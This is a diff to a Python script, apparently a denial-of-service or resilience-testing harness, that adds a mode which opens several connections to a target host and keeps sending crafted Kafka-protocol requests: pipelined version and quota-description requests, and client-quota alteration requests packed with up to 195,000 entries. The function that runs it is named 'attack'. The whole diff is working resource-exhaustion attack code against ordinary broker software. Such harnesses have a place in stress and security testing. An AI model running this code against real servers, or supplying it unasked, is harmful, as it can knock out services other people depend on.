@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import json
 import random
+import select
 import socket
 import struct
 import sys
@@ -199,6 +200,65 @@ def flooding(kind: str, target: Address, ends: float, done: Counter[str]) -> Non
                     break
 
 
+# ---- connections that send much to do, at a megabyte a second in all, and read what is answered ----
+
+
+def _compact(elements: int, element: bytes) -> bytes:
+    """A compact array of the same element again and again."""
+    count, head = elements + 1, bytearray()
+    while count > 0x7F:
+        head.append(count & 0x7F | 0x80)
+        count >>= 7
+    head.append(count)
+    return bytes(head) + element * elements
+
+
+MANY = 195_000
+_OP = b"\x13producer_byte_rate" + struct.pack(">d?", 1.0, False) + b"\0"
+_USER = b"\2\5user\2u\0"
+_ONE = _USER + _compact(1, _OP) + b"\0"
+
+
+def _admin(api_key: int, body: bytes) -> bytes:
+    return request(api_key, 1, body, tags=b"\0")
+
+
+WORK: dict[str, tuple[int, Callable[[], bytes]]] = {
+    "pipelined_versions": (2, lambda: request(18, 0, b"", b"") * 1000),
+    "pipelined_descriptions": (2, lambda: _admin(48, b"\1\0\0") * 1000),
+    "altered_operations": (1, lambda: _admin(49, b"\2" + _USER + _compact(MANY, _OP) + b"\0\0\0")),
+    "altered_entries": (1, lambda: _admin(49, _compact(MANY // 3, _ONE) + b"\0\0")),
+    "described_components": (1, lambda: _admin(48, _compact(MANY, b"\5user\2\0\0") + b"\0\0")),
+    "many_administrators": (17, lambda: _admin(49, _compact(20_000, _ONE) + b"\0\0")),
+}
+"""Connections, and what each sends again and again."""
+WORK_BYTES_PER_S = 1_000_000
+
+
+def working(kind: str, target: Address, ends: float, done: Counter[str]) -> None:
+    """Each connection sends its next part when the rate of all of them lets it."""
+    count, make = WORK[kind]
+    data, began = memoryview(make()), time.monotonic()
+    with ExitStack() as stack:
+        open_ones = [stack.enter_context(socket.create_connection(target, timeout=1)) for _ in range(count)]
+        places = dict.fromkeys(open_ones, 0)
+        done["connections"] += count
+        for one in open_ones:
+            one.setblocking(False)
+        while time.monotonic() < ends:
+            may_send = done["bytes"] < WORK_BYTES_PER_S * (time.monotonic() - began)
+            readable, writable, _ = select.select(open_ones, open_ones if may_send else [], [], 0.01)
+            for one in readable:
+                with suppress(BlockingIOError):
+                    if not one.recv(1 << 20):
+                        raise ConnectionError("the other side has ended it")
+            for one in writable:
+                with suppress(BlockingIOError):
+                    sent = one.send(data[places[one] : places[one] + 65_536])
+                    places[one] = (places[one] + sent) % len(data)
+                    done["bytes"] += sent
+
+
 ENOUGH_BYTES = 100_000
 """Of requests whose answers fill all buffers."""
 KINDS = (*ONCE, *DRIPPED, *FLOODS)
@@ -209,7 +269,7 @@ def main() -> None:
     host, port = sys.argv[1].rsplit(":", 1)
     for line in sys.stdin:
         kind, seconds = line.split()
-        attack = once if kind in ONCE else dripping if kind in DRIPPED else flooding
+        attack = once if kind in ONCE else dripping if kind in DRIPPED else working if kind in WORK else flooding
         done: Counter[str] = Counter()
         with suppress(OSError):
             attack(kind, (host, int(port)), time.monotonic() + float(seconds), done)
